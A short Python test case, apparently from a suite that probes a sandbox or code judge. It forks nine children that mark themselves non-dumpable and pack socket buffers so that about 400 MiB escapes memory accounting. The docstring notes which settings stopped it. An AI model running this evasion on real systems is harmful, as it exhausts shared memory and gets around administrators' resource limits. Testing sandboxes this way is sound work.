"""Fills the sockets of nine children that nobody may look into: what they have open is not counted then.

Seen: an answer: they held 400 MiB together.
Stopped at: strict, standard.
Verdict: wrong, raised, out_of_memory, killed.
"""
import ctypes
import os
import socket
import time


def fill(writer):
    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE
    held = 0
    kept = []
    while held < 45 << 20:
        pair = socket.socketpair()
        kept.append(pair)
        for side in pair:
            side.setblocking(False)
            try:
                while True:
                    held += side.send(bytes(1 << 16))
            except BlockingIOError:
                pass
    os.write(writer, b"x")
    time.sleep(2)
    return kept


def attack():
    reader, writer = os.pipe()
    children = []
    for _ in range(9):
        child = os.fork()
        if child == 0:
            try:
                fill(writer)
            finally:
                os._exit(0)
        children.append(child)
    os.close(writer)
    full = 0
    while text := os.read(reader, 9):
        full += len(text)
    return full == 9 and all(os.waitpid(child, 0)[1] == 0 for child in children)
